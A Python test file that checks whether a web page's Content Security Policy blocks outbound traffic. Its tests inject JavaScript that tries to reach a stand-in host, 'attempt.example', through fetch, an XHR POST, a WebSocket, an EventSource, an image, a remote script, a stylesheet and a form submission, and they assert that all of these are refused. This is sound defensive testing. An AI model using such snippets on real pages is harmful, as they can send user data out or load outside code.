"""Nothing leaves the page: it asks for nothing, and could not if it wanted to."""

from __future__ import annotations

import re
from pathlib import Path
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from trials import Trials
    from window import Window

MAKERS = re.compile(r"(google|googleapis|gvt1|mozilla)\.(com|org|net)(:443|/|$)")
"""Whom a browser asks on its own account."""

HOST = "attempt.example"
ATTEMPTS = {
    "fetch": "fetch('https://{0}/fetch')",
    "request": """new Promise((done, fail) => {{
        const request = new XMLHttpRequest();
        Object.assign(request, {{onload: done, onerror: fail}});
        request.open('POST', 'https://{0}/request');
        request.send('x');
    }})""",
    "socket": """new Promise((onopen, onerror) =>
        Object.assign(new WebSocket('wss://{0}/socket'), {{onopen, onerror}}))""",
    "events": """new Promise((onopen, onerror) =>
        Object.assign(new EventSource('https://{0}/events'), {{onopen, onerror}}))""",
    "picture": """new Promise((onload, onerror) =>
        Object.assign(new Image(), {{onload, onerror, src: 'https://{0}/picture'}}))""",
    "script": """new Promise((onload, onerror) => document.head.append(Object.assign(
        document.createElement('script'),
        {{onload, onerror, src: 'https://{0}/script'}})))""",
    "style": """new Promise((onload, onerror) => document.head.append(Object.assign(
        document.createElement('link'),
        {{onload, onerror, rel: 'stylesheet', href: 'https://{0}/style'}})))""",
}
"""What script in the page could try, as promises that fail where it is refused."""


def outsiders(window: Window) -> list[str]:
    """Return whom the browser asked but its own maker."""
    return [one for one in window.browser.asked() if not MAKERS.search(one)]


def test_nothing_is_asked_for(window: Window, own: Path) -> None:
    """Through a check and all that can be saved there is no request and no complaint."""
    window.give(own / "养护.xlsx", own / "清单.md")
    for what in ("letter", "returned", "json", "all"):
        window.saved(what)
    window.click("#view-office")
    window.saved("office")

    assert window.ask("notes") == []
    assert outsiders(window) == []


def test_nothing_can_be_asked_for(trials: Trials) -> None:
    """Script in the page that tries is refused, and so is script in the worker."""
    refused = {
        name: trials.window.tell(
            f"{code.format(HOST)}.then(() => 'done', () => 'refused')"
        )
        for name, code in ATTEMPTS.items()
    }
    inside = trials.inside("network", HOST)

    assert refused == dict.fromkeys(ATTEMPTS, "refused")
    assert inside == dict.fromkeys(inside, "refused")
    assert len(inside) == 5
    assert outsiders(trials.window) == []
    broken = trials.window.tell("window.violations")
    assert {one.split()[0] for one in broken} >= {"connect-src", "img-src"}


def test_a_form_is_not_sent(trials: Trials) -> None:
    """A form that leads elsewhere leads nowhere."""
    at = trials.window.tell("location.href")
    trials.window.tell(
        "document.body.append(Object.assign(document.createElement('form'),"
        f" {{id: 'away', method: 'post', action: 'https://form.{HOST}/'}}))"
    )
    trials.window.tell("setTimeout(() => document.getElementById('away').submit())")
    trials.window.until(
        "window.violations.some((one) => one.startsWith('form-action'))", 10
    )

    assert trials.window.tell("location.href") == at
